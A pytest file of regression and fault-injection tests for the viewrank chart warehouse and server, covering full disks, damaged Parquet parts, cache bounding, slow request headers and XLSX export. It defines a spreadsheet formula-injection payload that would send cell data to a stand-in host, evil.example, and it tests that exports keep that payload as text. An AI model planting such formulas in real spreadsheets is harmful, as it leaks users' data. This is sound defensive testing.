"""Trust under faults (issue 16): each finding's regression test, named after it, and the
fault-injection suite: a full disk, damaged files, killed importers and a server whose
snapshot refresh fails, each ending with a consistent warehouse and a server that answers."""

from __future__ import annotations

import datetime as dt
import io
import tempfile
import warnings
import zipfile
from pathlib import Path
from typing import Any, Iterator

import openpyxl
import pytest
from starlette.exceptions import StarletteDeprecationWarning

from viewrank import Warehouse, compute_charts, ingest_file
from viewrank.rollup.daily import rollup
from viewrank.formats.workbook import FIXED_TIME, write_engagement_workbook
from viewrank.web import create_app
from viewrank.web import downloads

from builders import EVENT_FIELDS, build_warehouse, film, plays, write_csv
from faults import fill, small_disk

with warnings.catch_warnings():
    warnings.simplefilter("ignore", StarletteDeprecationWarning)
    from starlette.testclient import TestClient

WEEK = "2026-11-15"
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'


def small_warehouse(root: Path, *, title: str = "Alpha", count: int = 3) -> Warehouse:
    return build_warehouse(root, titles=[film("A", title)], events=plays("A", day="2026-11-10", count=count),
                           weeks=[WEEK])


def hours(client: TestClient) -> float:
    response = client.get(f"/api/weeks/{WEEK}/global")
    assert response.status_code == 200, response.text
    return sum(entry["hours_viewed"] for lst in response.json()["lists"] for entry in lst["entries"])


# -- finding 2: a failed snapshot refresh ---------------------------------------------------

def test_snapshot_refresh_failing_on_a_full_temporary_folder_heals(tmp_path: Path,
                                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    small_warehouse(tmp_path).close()
    with small_disk(tmp_path / "tmp", "64m") as disk:
        monkeypatch.setattr(tempfile, "tempdir", str(disk))
        app = create_app(tmp_path / "warehouse", cache_entries=0)
        client = TestClient(app)
        before = hours(client)
        ballast = fill(disk, leave=16_384)
        with Warehouse(tmp_path / "warehouse") as warehouse:
            ingest_file(warehouse, write_csv(tmp_path / "more.csv", EVENT_FIELDS,
                                             plays("A", day="2026-11-11", count=2, prefix="more")))
            rollup(warehouse)
            compute_charts(warehouse)
        for _ in range(3):  # every refresh fails on the full disk: the previous snapshot answers
            assert hours(client) == before
        assert sorted(p.name for p in next(disk.glob("viewrank-serve-*")).iterdir()) == ["snapshot-1.duckdb"]
        ballast.unlink()
        assert hours(client) == before + 2  # the next refresh after the space came back succeeds
        app.state.reader.close()


# -- finding 7: the response cache ----------------------------------------------------------

def test_response_cache_keyed_on_junk_query_parameters_stays_bounded(tmp_path: Path) -> None:
    small_warehouse(tmp_path).close()
    app = create_app(tmp_path / "warehouse")
    client = TestClient(app)
    cache = app.state.reader.cache
    first = client.get(f"/api/weeks/{WEEK}/global").content
    for n in range(200):
        assert client.get(f"/api/weeks/{WEEK}/global?junk={n}&utm_source=x{n}").content == first
    assert len(cache) == 1
    # The parameters a route reads still tell answers apart (the last of a repeated one counts).
    assert client.get(f"/api/weeks/{WEEK}/global?category=tv-english").content != \
        client.get(f"/api/weeks/{WEEK}/global?category=films-english").content
    assert client.get(f"/api/weeks/{WEEK}/global?category=tv-english&category=films-english").content == \
        client.get(f"/api/weeks/{WEEK}/global?category=films-english").content
    assert len(cache) == 3 and cache.cached_bytes == sum(map(len, cache._bodies.values()))
    cache.max_bytes = len(first) * 2   # bounded by bytes as well as by entries
    for path in ("/api/titles", "/api/countries", "/api/weeks"):
        client.get(path)
    assert cache.cached_bytes <= cache.max_bytes
    app.state.reader.close()


def test_every_query_parameter_the_site_reads_is_part_of_the_cache_key() -> None:
    import re
    from viewrank.web.http import QUERY_PARAMETERS
    web = Path(__file__).resolve().parents[1] / "src" / "viewrank" / "web"
    read = {name for path in web.glob("*.py") for name in re.findall(r'query_params\.get\("(\w+)"\)', path.read_text())}
    assert read == set(QUERY_PARAMETERS)


# -- finding 4: formula injection; finding 12: XLSX bytes between publishes ----------------

def workbook_cells(body: bytes) -> list[tuple[Any, str]]:
    workbook = openpyxl.load_workbook(io.BytesIO(body))
    return [(cell.value, cell.data_type) for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row
            if cell.value is not None]


def no_formulas(body: bytes) -> bool:
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        return not any(b"<f>" in archive.read(name) or b"<f " in archive.read(name)
                       for name in archive.namelist() if name.startswith("xl/worksheets/"))


def test_formula_injection_title_is_text_in_every_workbook(tmp_path: Path) -> None:
    download = downloads.encode(("show_title", "weekly_rank"), [(HYPERLINK, "1"), ("+1-2", "2")], "xlsx", sheet="global")
    assert (HYPERLINK, "s") in workbook_cells(download) and ("+1-2", "s") in workbook_cells(download)
    assert no_formulas(download)
    report = {"period": {"from": dt.date(2026, 1, 1), "to": dt.date(2026, 6, 30)},
              "covered": {"complete": True, "from": dt.date(2026, 1, 1), "to": dt.date(2026, 6, 30)},
              "sheets": {"Film": [{"title": HYPERLINK, "available_globally": True, "release_date": None,
                                   "hours_shown": 100, "runtime_shown": "1:30", "views_shown": 60}]}}
    write_engagement_workbook(tmp_path / "report.xlsx", report)
    body = (tmp_path / "report.xlsx").read_bytes()
    assert (HYPERLINK, "s") in workbook_cells(body) and no_formulas(body)


def test_formula_injection_title_is_text_in_the_server_and_site_downloads(tmp_path: Path) -> None:
    small_warehouse(tmp_path, title=HYPERLINK).close()
    app = create_app(tmp_path / "warehouse")
    body = TestClient(app).get("/downloads/all-weeks-global.xlsx").content
    assert (HYPERLINK, "s") in workbook_cells(body) and no_formulas(body)
    app.state.reader.close()


def test_xlsx_bytes_do_not_depend_on_the_clock(tmp_path: Path) -> None:
    download = downloads.encode(("show_title",), [("Alpha",)], "xlsx", sheet="global")
    with zipfile.ZipFile(io.BytesIO(download)) as archive:
        assert {entry.date_time for entry in archive.infolist()} == {FIXED_TIME.timetuple()[:6]}
        assert b"2000-01-01T00:00:00Z" in archive.read("docProps/core.xml")
    assert downloads.encode(("show_title",), [("Alpha",)], "xlsx", sheet="global") == download


# -- finding 12: the server's temporary folder and slow request headers ---------------------

def test_serve_removes_its_temporary_folder_on_ctrl_c_and_drops_slow_headers(tmp_path: Path) -> None:
    import os
    import signal
    import socket
    import subprocess
    import sys
    import time

    import httpx
    small_warehouse(tmp_path).close()
    temporary = tmp_path / "tmp"
    temporary.mkdir()
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    server = subprocess.Popen([sys.executable, "-m", "viewrank", "serve", "--warehouse", str(tmp_path / "warehouse"),
                               "--port", str(port), "--header-timeout", "1"],
                              env={**os.environ, "TMPDIR": str(temporary)}, stdout=subprocess.DEVNULL,
                              stderr=subprocess.DEVNULL)
    try:
        deadline = time.monotonic() + 60
        while True:
            try:
                if httpx.get(f"http://127.0.0.1:{port}/api/weeks", timeout=10).status_code == 200:
                    break
            except httpx.TransportError:
                pass
            assert time.monotonic() < deadline and server.poll() is None, "the server did not start"
            time.sleep(0.2)
        assert [p.name[:14] for p in temporary.iterdir()] == ["viewrank-serve"]
        with socket.create_connection(("127.0.0.1", port)) as slow:
            slow.sendall(b"GET /api/weeks HTTP/1.1\r\nHost: x\r\n")   # and never the blank line
            slow.settimeout(15)
            started = time.monotonic()
            assert slow.recv(1024) == b""           # closed by the server, no answer
            assert time.monotonic() - started < 10
        assert httpx.get(f"http://127.0.0.1:{port}/api/weeks", timeout=10).status_code == 200
    finally:
        server.send_signal(signal.SIGINT)
        server.wait(timeout=30)
    assert list(temporary.iterdir()) == []


# -- finding 8: size limits on imported cells and quarantined rows --------------------------

def test_size_limit_on_an_imported_cell_names_the_limit(tmp_path: Path) -> None:
    from click.testing import CliRunner

    from viewrank.cli import cli
    Warehouse.init(tmp_path / "w").close()
    lines = (Path(__file__).parent / "fixtures" / "netflix-top10" / "all-weeks-global_slice.tsv").read_text().split("\n")
    fields = lines[2].split("\t")
    fields[3] = "N" * 300_000
    (tmp_path / "all-weeks-global.tsv").write_text("\n".join([lines[0], lines[1], "\t".join(fields)]))
    result = CliRunner().invoke(cli, ["import", "netflix-top10", str(tmp_path / "all-weeks-global.tsv"),
                                      "--warehouse", str(tmp_path / "w")])
    assert result.exit_code == 1
    assert result.output == (f"Error: {tmp_path / 'all-weeks-global.tsv'} row 3 column 'show_title': a cell of "
                             "300,000 characters; the limit is 10,000 (is this the right file?)\n")
    with Warehouse(tmp_path / "w") as warehouse:
        assert warehouse.scalar("SELECT count(*) FROM titles") == 0


def test_size_limit_on_a_quarantined_row(tmp_path: Path) -> None:
    warehouse = small_warehouse(tmp_path)
    huge = plays("A", day="2026-11-10", count=1, prefix="huge")[0] | {"title_id": "X" * 100_000}
    report = ingest_file(warehouse, write_csv(tmp_path / "huge.csv", EVENT_FIELDS, [huge]))
    assert report.rows_quarantined == 1
    reason, raw = warehouse.execute("SELECT reason, raw FROM quarantine").fetchone()  # type: ignore[misc]
    assert len(reason) == len(raw) == 4_096 + len("… (cut at 4,096 characters)")
    assert reason.startswith("unknown title_id XXX") and raw.endswith("… (cut at 4,096 characters)")


# -- finding 12: a JSON Lines file with a byte-order mark -----------------------------------

def test_jsonl_with_a_byte_order_mark_keeps_its_first_row(tmp_path: Path) -> None:
    import json
    warehouse = small_warehouse(tmp_path)
    rows = plays("A", day="2026-11-12", count=2, prefix="bom")
    (tmp_path / "bom.jsonl").write_bytes(b"\xef\xbb\xbf" + "\n".join(json.dumps(row) for row in rows).encode())
    report = ingest_file(warehouse, tmp_path / "bom.jsonl")
    assert (report.rows_read, report.rows_loaded, report.rows_quarantined) == (2, 2, 0)


# -- finding 6: repairable rollups; finding 11: check finds damaged parts --------------------

def figures(warehouse: Warehouse) -> dict[str, Any]:
    """Every figure a chart is made of, to compare a repaired warehouse with a clean one."""
    return {name: warehouse.execute(f"SELECT * FROM {name} ORDER BY ALL").fetchall()
            for name in ("daily_rollup", "weekly_rollup", "current_entries")
            } | {"editions": warehouse.execute("SELECT week, scope, revision FROM editions ORDER BY ALL").fetchall()}


def two_day_warehouse(root: Path) -> Warehouse:
    return build_warehouse(root, titles=[film("A", "Alpha"), film("B", "Beta")],
                           events=plays("A", day="2026-11-10", count=3) + plays("B", day="2026-11-11", count=2)
                           + plays("A", day="2026-11-11", count=1, country="FR"), weeks=[WEEK])


def run_cli(*args: str) -> Any:
    from click.testing import CliRunner

    from viewrank.cli import cli
    return CliRunner().invoke(cli, list(args))


@pytest.mark.parametrize("kind", ["daily", "weekly"])
@pytest.mark.parametrize("fault", ["deleted", "truncated", "overwritten"])
def test_repairable_rollups_a_damaged_part_is_recomputed_by_rollup(tmp_path: Path, kind: str, fault: str) -> None:
    from faults import damage
    from viewrank.store.integrity import check
    warehouse = two_day_warehouse(tmp_path)
    clean = figures(warehouse)
    (path,) = [p for (p,) in warehouse.execute(
        "SELECT path FROM rollup_parts WHERE kind = ? ORDER BY period LIMIT 1", [kind]).fetchall()]
    warehouse.close()
    part = tmp_path / "warehouse" / path
    if fault == "deleted":
        part.unlink()
    elif fault == "truncated":
        part.write_bytes(part.read_bytes()[:-20])
    else:
        damage(part, offset=0, length=8)
    root = str(tmp_path / "warehouse")
    found = run_cli("check", "--warehouse", root)
    assert found.exit_code == 1 and path in found.output and "Traceback" not in found.output
    deep = run_cli("check", "--deep", "--warehouse", root)
    assert deep.exit_code == 1 and path in deep.output and deep.exception is None or isinstance(deep.exception, SystemExit)
    repaired = run_cli("rollup", "--warehouse", root)
    assert repaired.exit_code == 0, repaired.output
    assert f"The {kind} rollup part of " in repaired.output and "recomputed from the events" in repaired.output
    assert run_cli("charts", "--warehouse", root).exit_code == 0
    with Warehouse(root) as after:
        assert figures(after) == clean       # the same figures, and no new revision of the week
        assert check(after, deep=True) == []


def test_repairable_rollups_rollup_full_rebuilds_around_a_missing_part(tmp_path: Path) -> None:
    from viewrank.store.integrity import check
    warehouse = two_day_warehouse(tmp_path)
    clean = figures(warehouse)
    for (path,) in warehouse.execute("SELECT path FROM rollup_parts").fetchall():
        (tmp_path / "warehouse" / path).unlink()
    warehouse.close()
    assert run_cli("rollup", "--full", "--warehouse", str(tmp_path / "warehouse")).exit_code == 0
    with Warehouse(tmp_path / "warehouse") as after:
        assert figures(after) == clean and check(after, deep=True) == []


@pytest.mark.parametrize("fault", ["truncated", "overwritten"])
def test_check_finds_a_damaged_event_part_and_deep_check_reports_it(tmp_path: Path, fault: str) -> None:
    from faults import damage
    two_day_warehouse(tmp_path).close()
    root = tmp_path / "warehouse"
    part = sorted((root / "events").rglob("*.parquet"))[0]
    if fault == "truncated":
        part.write_bytes(part.read_bytes()[: part.stat().st_size // 2])
    else:
        damage(part, offset=-6, length=6)
    for deep in ([], ["--deep"]):
        result = run_cli("check", *deep, "--warehouse", str(root), "--json")
        assert result.exit_code == 1 and result.exception is None or isinstance(result.exception, SystemExit)
        assert "damaged event parts" in result.output and part.relative_to(root).as_posix() in result.output
    verify = run_cli("verify", WEEK, "--warehouse", str(root))
    assert verify.exit_code == 1 and verify.output.startswith("Error: ") and len(verify.output.splitlines()) == 1
